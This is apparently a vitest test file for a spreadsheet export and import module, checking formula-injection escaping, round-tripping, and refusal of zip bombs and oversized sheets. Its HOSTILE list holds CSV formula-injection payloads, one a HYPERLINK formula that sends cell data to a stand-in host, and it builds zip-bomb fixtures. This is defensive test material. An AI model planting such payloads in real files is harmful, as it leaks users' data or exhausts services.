import { PRODUCT_COLUMNS, PRODUCT_NUMBER_COLUMNS, startsFormula } from "@roshni/core";
import ExcelJS from "exceljs";
import Papa from "papaparse";
import { beforeAll, describe, expect, it } from "vitest";
import {
  checkSheetUpload,
  csvBuffer,
  readSheet,
  SHEET_LIMITS,
  type SheetReadStats,
  SheetTooLarge,
  sheetLimits,
  xlsxBuffer,
} from "./spreadsheet";
import { xlsxBomb, xlsxOf } from "./xlsx-fixtures";

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A2,"x")',
  "+1+1",
  "-2+3",
  "@SUM(1)",
  "\t=1",
  "\r=1",
  "'=already quoted",
  "-Bright Pendant",
];

/** A product row of the export with a hostile value in every text column, numbers in the number ones. */
function hostileRow(index: number): string[] {
  return PRODUCT_COLUMNS.map((column, position) => {
    if (column === "stock") return String(-index);
    if (PRODUCT_NUMBER_COLUMNS.has(column)) return (1250.5 + index).toFixed(2);
    return HOSTILE[(index + position) % HOSTILE.length] as string;
  });
}

const ROWS = HOSTILE.map((_, index) => hostileRow(index));
const CONTENT = { header: PRODUCT_COLUMNS, rows: ROWS, numberColumns: PRODUCT_NUMBER_COLUMNS };

function checkWritten(header: readonly string[], rows: readonly (readonly unknown[])[]): void {
  expect(rows).toHaveLength(ROWS.length);
  for (const row of rows) {
    row.forEach((cell, index) => {
      const column = header[index] ?? "";
      expect(typeof cell, column).toBe("string");
      const text = cell as string;
      if (PRODUCT_NUMBER_COLUMNS.has(column)) expect(text, column).toMatch(/^-?\d+(\.\d+)?$/);
      else expect(startsFormula(text), `${column}: ${JSON.stringify(text)}`).toBe(false);
    });
  }
}

describe("exports carry no formulas", () => {
  it("CSV: every hostile text cell starts with an apostrophe; numbers, negative ones too, stay plain", () => {
    const text = csvBuffer(CONTENT)
      .toString("utf8")
      .replace(/^\ufeff/, "");
    const [header, ...rows] = Papa.parse<string[]>(text, { skipEmptyLines: true }).data;
    expect(header).toEqual([...PRODUCT_COLUMNS]);
    checkWritten(header ?? [], rows);
    expect(rows[0]?.[PRODUCT_COLUMNS.indexOf("stock")]).toBe("0");
    expect(rows[1]?.[PRODUCT_COLUMNS.indexOf("stock")]).toBe("-1");
  });

  it("Excel: every cell is a string cell, never a formula, with the same apostrophe", async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await xlsxBuffer("Products", CONTENT)) as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0];
    const rows: unknown[][] = [];
    sheet?.eachRow((row, number) => {
      if (number === 1) return;
      const cells: unknown[] = [];
      for (let column = 1; column <= PRODUCT_COLUMNS.length; column++) {
        const cell = row.getCell(column);
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
        cells.push(cell.value ?? "");
      }
      rows.push(cells);
    });
    checkWritten(PRODUCT_COLUMNS, rows);
  });

  it("both formats import back exactly what was exported", async () => {
    const expected = [[...PRODUCT_COLUMNS], ...ROWS];
    expect(await readSheet(csvBuffer(CONTENT), "csv")).toEqual(expected);
    // XML turns a carriage return into a line feed; the apostrophe before it is removed all the same.
    const lineFeeds = expected.map((row) => row.map((cell) => cell.replace(/\r/g, "\n")));
    expect(await readSheet(await xlsxBuffer("Products", CONTENT), "xlsx")).toEqual(lineFeeds);
  });
});

describe("reading a workbook saved by a spreadsheet program", () => {
  async function savedWorkbook(rows: unknown[][]): Promise<Buffer> {
    // ExcelJS's ordinary writer, as Excel does: shared strings, numbers as numbers, rich text.
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet("Products");
    for (const row of rows) sheet.addRow(row);
    workbook.addWorksheet("Notes").addRow(["not read"]);
    return Buffer.from(await workbook.xlsx.writeBuffer());
  }

  it("reads shared strings, numbers, booleans and rich text from the first sheet", async () => {
    const file = await savedWorkbook([
      ["sku", "title", "mrp", "visible"],
      ["RL-1", "Brass Lamp", 1250.5, true],
      [],
      ["RL-2", { richText: [{ text: "Crystal " }, { text: "Chandelier", font: { bold: true } }] }, 99, false],
      ["RL-3", "'-Bright", 10, true],
    ]);
    expect(await readSheet(file, "xlsx")).toEqual([
      ["sku", "title", "mrp", "visible"],
      ["RL-1", "Brass Lamp", "1250.5", "true"],
      ["RL-2", "Crystal Chandelier", "99", "false"],
      ["RL-3", "-Bright", "10", "true"],
    ]);
  });

  it("a shared string counts each time a cell uses it", async () => {
    const long = "C".repeat(500);
    const file = await savedWorkbook([
      ["sku", "title"],
      ...Array.from({ length: 60 }, (_, i) => [`RL-${i}`, long]),
    ]);
    await expect(readSheet(file, "xlsx", sheetLimits(60))).rejects.toThrow(
      "more text than an import of 60 rows",
    );
    expect(await readSheet(file, "xlsx", sheetLimits(100))).toHaveLength(61);
  });
});

describe("an .xlsx upload is checked before it is inflated", () => {
  let bomb: Buffer;
  beforeAll(async () => {
    // About 2.5 MB on the wire, 256 MB of sheet XML once inflated.
    bomb = await xlsxBomb(256);
  }, 60_000);

  it("a zip bomb is refused from its declared size, quickly and without inflating the sheet", async () => {
    expect(bomb.length).toBeLessThan(5 * 1024 * 1024);
    const stats: SheetReadStats = { inflatedBytes: 0, rowsRead: 0 };
    const heapBefore = process.memoryUsage().heapUsed;
    const started = performance.now();
    const refusal = await checkSheetUpload("bomb.xlsx", bomb, SHEET_LIMITS, stats).catch((e: unknown) => e);
    expect(refusal).toBeInstanceOf(SheetTooLarge);
    expect((refusal as Error).message).toBe(
      "The workbook's sheet is larger than an import of 2,00,000 rows can be (more than 195 MB once unpacked); split it or save it as CSV.",
    );
    await expect(readSheet(bomb, "xlsx", SHEET_LIMITS, stats)).rejects.toBeInstanceOf(SheetTooLarge);
    expect(performance.now() - started).toBeLessThan(1000);
    // Only the workbook's index (a few hundred bytes) was inflated.
    expect(stats.inflatedBytes).toBeLessThan(10_000);
    expect(process.memoryUsage().heapUsed - heapBefore).toBeLessThan(20 * 1024 * 1024);
  });

  it("a sheet that inflates beyond what its zip declares stops at the declared size", async () => {
    const lying = await xlsxBomb(32, { declaredSize: 100_000 });
    await checkSheetUpload("lying.xlsx", lying);
    const stats: SheetReadStats = { inflatedBytes: 0, rowsRead: 0 };
    await expect(readSheet(lying, "xlsx", SHEET_LIMITS, stats)).rejects.toThrow(
      "The workbook is damaged: a part is larger than it declares.",
    );
    expect(stats.inflatedBytes).toBeLessThan(100_000 + 2 * 65_536 + 10_000);
  });

  it("a declared dimension beyond the row limit is refused from the sheet's first bytes", async () => {
    const file = xlsxOf(
      [
        ["sku", "stock"],
        ["RL-1", "4"],
      ],
      "A1:B300000",
    );
    const stats: SheetReadStats = { inflatedBytes: 0, rowsRead: 0 };
    await expect(checkSheetUpload("wide.xlsx", file, SHEET_LIMITS, stats)).rejects.toThrow(
      "The file has more than 2,00,000 rows; split it.",
    );
    expect(stats.rowsRead).toBe(0);
  });

  it("a file above the row limit stops being read at the limit", async () => {
    const rows = [["sku", "stock"], ...Array.from({ length: 5000 }, (_, i) => [`RL-${i}`, String(i)])];
    // No dimension: only reading the rows can tell.
    const file = xlsxOf(rows, "A1");
    const stats: SheetReadStats = { inflatedBytes: 0, rowsRead: 0 };
    const limits = { ...sheetLimits(100), xmlBytes: SHEET_LIMITS.xmlBytes };
    await expect(readSheet(file, "xlsx", limits, stats)).rejects.toThrow(
      "The file has more than 100 rows; split it.",
    );
    expect(stats.rowsRead).toBe(102);
    const csv = Buffer.from(rows.map((row) => row.join(",")).join("\n"));
    await expect(readSheet(csv, "csv", sheetLimits(100))).rejects.toThrow("more than 100 rows");
    expect(await readSheet(file, "xlsx", sheetLimits(5000))).toHaveLength(5001);
  });

  it("more text than the row limit allows is refused while reading", async () => {
    const long = "B".repeat(500);
    const rows = [["sku", "title"], ...Array.from({ length: 50 }, (_, i) => [`RL-${i}`, long])];
    await expect(readSheet(xlsxOf(rows), "xlsx", sheetLimits(50))).rejects.toThrow(
      "The file holds more text than an import of 50 rows may carry; split it.",
    );
  });
});
